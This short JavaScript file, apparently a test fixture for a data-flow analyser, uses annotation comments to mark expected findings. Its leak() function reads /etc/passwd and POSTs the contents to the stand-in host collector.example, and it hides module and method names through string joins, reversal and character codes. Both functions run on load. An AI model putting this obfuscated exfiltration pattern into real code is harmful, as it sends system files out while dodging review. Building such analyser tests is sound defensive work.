// --- path: loader.js ---
// The names of modules and functions are put together from pieces.
const pick = (...parts) => parts.join('');
const files = require(['f', 's'].join(''));
const wire = require('ht' + 'tps');
const verb = 'etirw'.split('').reverse().join('');

function leak() {
  const body = files['readFile' + 'Sync']('/etc/passwd'); //~ source(FILE) f1
  const request = wire[String.fromCharCode(114, 101, 113, 117, 101, 115, 116)]({ host: 'collector.example', method: 'POST' });
  request[verb](body); //~ sink(egress.http) f1, finding(file-upload, traced) f1
}

function quiet() {
  const there = files['exists' + 'Sync']('/etc/passwd');
  const request = wire['re' + 'quest']({ host: 'collector.example', method: 'POST' });
  request[verb](String(there === true)); //~ ok
}

leak();
quiet();
